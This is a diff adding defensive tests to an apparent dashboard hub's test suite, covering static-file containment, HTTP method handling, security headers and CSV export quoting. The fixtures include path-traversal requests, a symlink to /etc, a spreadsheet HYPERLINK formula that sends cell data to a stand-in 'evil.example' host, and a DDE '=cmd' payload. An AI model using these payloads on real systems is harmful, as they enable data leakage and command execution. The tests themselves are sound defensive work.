@@ -684,5 +684,98 @@ def test_tls_bad_files_stop_the_hub():
     check("has expired" in out, "an expired certificate warns: %r" % out[:500])
 
 
+# ---------------------------------------------------------------- S7 HTTP
+
+def raw_keepalive(port, request, timeout=1.0):
+    """Send request on a keep-alive connection; the status and whether the
+    whole body (by Content-Length) arrived within timeout."""
+    with socket.create_connection((HOST, port), timeout=timeout) as s:
+        s.sendall(request.encode())
+        data = b""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            try:
+                d = s.recv(4096)
+            except socket.timeout:
+                break
+            if not d:
+                break
+            data += d
+            head, sep, body = data.partition(b"\r\n\r\n")
+            if sep:
+                n = 0
+                for line in head.split(b"\r\n")[1:]:
+                    k, _, v = line.partition(b":")
+                    if k.strip().lower() == b"content-length":
+                        n = int(v)
+                if len(body) >= n:
+                    return int(head.split(b" ")[1]), head.decode("latin-1"), True
+        return (int(data.split(b" ")[1]) if data[:4] == b"HTTP" else 0), data.decode(
+            "latin-1", "replace"), False
+
+
+async def test_static_files_contained():
+    d = tempfile.mkdtemp(prefix="rtdash-web-")
+    root = os.path.join(d, "web")
+    os.makedirs(os.path.join(root, "js"))
+    os.makedirs(os.path.join(root, ".git"))
+    os.makedirs(os.path.join(root, "node_modules", "chart.js", "dist"))
+    for rel, text in (("index.html", "<!doctype html>"), ("js/app.js", "1"), (".env", "SECRET"),
+                      (".git/config", "x"), ("package.json", "{}"), ("../outside.txt", "SECRET"),
+                      ("node_modules/chart.js/package.json", "{}"),
+                      ("node_modules/chart.js/dist/chart.umd.min.js", "1"),
+                      ("node_modules/chart.js/dist/chart.umd.min.js.map", "{}")):
+        with open(os.path.join(root, rel), "w") as f:
+            f.write(text)
+    os.symlink(os.path.join(d, "outside.txt"), os.path.join(root, "link.txt"))
+    os.symlink("/etc", os.path.join(root, "etc"))
+    with Hub(["--web-root", root]) as hub:
+        p = hub.port
+        for path, want in (("/", 200), ("/index.html", 200), ("/js/app.js", 200),
+                           ("/link.txt", 404), ("/etc/hostname", 404), ("/.env", 404),
+                           ("/.git/config", 404), ("/package.json", 404),
+                           ("/node_modules/chart.js/package.json", 404),
+                           ("/vendor/chart.js/dist/chart.umd.min.js", 200),
+                           ("/vendor/chart.js/dist/chart.umd.min.js.map", 404),
+                           ("/vendor/chart.js/package.json", 404),
+                           ("/js/../../outside.txt", 404), ("/%2e%2e/outside.txt", 404)):
+            st, hd, body = http_get(p, path)
+            check(st == want and b"SECRET" not in body, "%s: %d (want %d) %r" % (path, st, want,
+                                                                               body[:60]))
+        _, hd, _ = http_get(p, "/vendor/chart.js/dist/chart.umd.min.js")
+        check("javascript" in hd.get("content-type", ""), "Chart.js's type: %s" % hd)
+        # methods: a whole 405 with Allow, on a keep-alive connection, within 1 s
+        for method, path in (("POST", "/"), ("PUT", "/"), ("DELETE", "/"), ("POST", "/api/topics"),
+                             ("PUT", "/api/topics"), ("DELETE", "/api/topics")):
+            st, head, whole = raw_keepalive(p, "%s %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
+                                               "Content-Length: 0\r\n\r\n" % (method, path, p))
+            check(st == 405 and whole and "allow:" in head.lower(),
+                  "%s %s: %d, whole body %s, head %r" % (method, path, st, whole, head[:300]))
+        conn = http.client.HTTPConnection(HOST, p, timeout=5)
+        conn.request("HEAD", "/api/topics")
+        r = conn.getresponse()
+        check(r.status == 200 and r.read() == b"", "HEAD /api/topics: %d" % r.status)
+        conn.close()
+        _, hd, _ = http_get(p, "/")
+        csp = hd.get("content-security-policy", "")
+        check("connect-src 'self'" in csp and " ws:" not in csp and " wss:" not in csp and
+              "x-xss-protection" not in hd, "the page's headers: %s" % hd)
+
+
+async def test_csv_formulas_quoted():
+    with Hub() as hub:
+        pub = await apublisher(hub)
+        pub.event("ops.feed", '=HYPERLINK("http://evil.example/?"&A1,"Click")', level="warning")
+        pub.sample("web.lat", {"=cmd|'/c calc'!A0": 1, "p50": -3.5})
+        await asyncio.sleep(0.5)
+        _, _, body = http_get(hub.port, "/api/history/ops.feed?format=csv")
+        text = body.decode()
+        check("\"'=HYPERLINK" in text, "event text starts with an apostrophe: %r" % text)
+        _, _, body = http_get(hub.port, "/api/history/web.lat?format=csv")
+        text = body.decode()
+        check("\"'=cmd|" in text.splitlines()[0], "a formula field name: %r" % text)
+        check(",-3.5" in text, "a negative number stays a number: %r" % text)
+
+
 if __name__ == "__main__":
     run_tests(globals())
